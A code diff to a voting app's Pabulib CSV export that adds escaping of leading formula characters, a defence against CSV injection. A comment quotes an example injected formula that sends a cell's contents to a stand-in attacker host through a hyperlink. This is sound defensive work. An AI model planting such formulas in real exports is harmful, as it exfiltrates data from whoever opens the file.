@@ -9,6 +9,18 @@ from voting import counting, pabulib
 from voting import repository as voting_repo
 from voting.errors import ResultsNotPublished
 
+# A spreadsheet reads a cell that starts with one of these as a formula: a proposal titled
+# =HYPERLINK("https://evil.example/?"&A1, "Details") would run on a council officer's computer.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """Text for a cell of an exported file: a leading apostrophe makes a spreadsheet show a
+    would-be formula as the text it is (the OWASP advice for CSV injection). Pabulib files are
+    ;-separated CSV and are opened in spreadsheets, so their text cells get the same."""
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
+
 # How Pabulib names our rules in a file's META `rule`.
 PABULIB_RULES = {"greedy": "greedy", "mes": "equalshares/add1", "phragmen": "phragmen"}
 
@@ -23,15 +35,15 @@ def pabulib_for_round(session: Session, round_id: int) -> str:
     box = [b.choices for b in voting_repo.ballots_of(session, round_id)]
     election = counting.election_for(voting_round, projects, box)
     meta = {
-        "description": f"{partnership.name}: {voting_round.title}",
+        "description": spreadsheet_safe(f"{partnership.name}: {voting_round.title}"),
         "country": "United Kingdom",
-        "unit": partnership.name,
-        "instance": voting_round.title,
+        "unit": spreadsheet_safe(partnership.name),
+        "instance": spreadsheet_safe(voting_round.title),
         "currency": voting_round.currency,
         "rule": PABULIB_RULES.get(voting_round.counting_rule, voting_round.counting_rule),
         **_score_range(voting_round),
     }
-    project_info = {str(p.id): {"name": p.title} for p in projects}
+    project_info = {str(p.id): {"name": spreadsheet_safe(p.title)} for p in projects}
     return pabulib.dumps(pabulib.from_election(election, meta=meta, project_info=project_info))
 
 
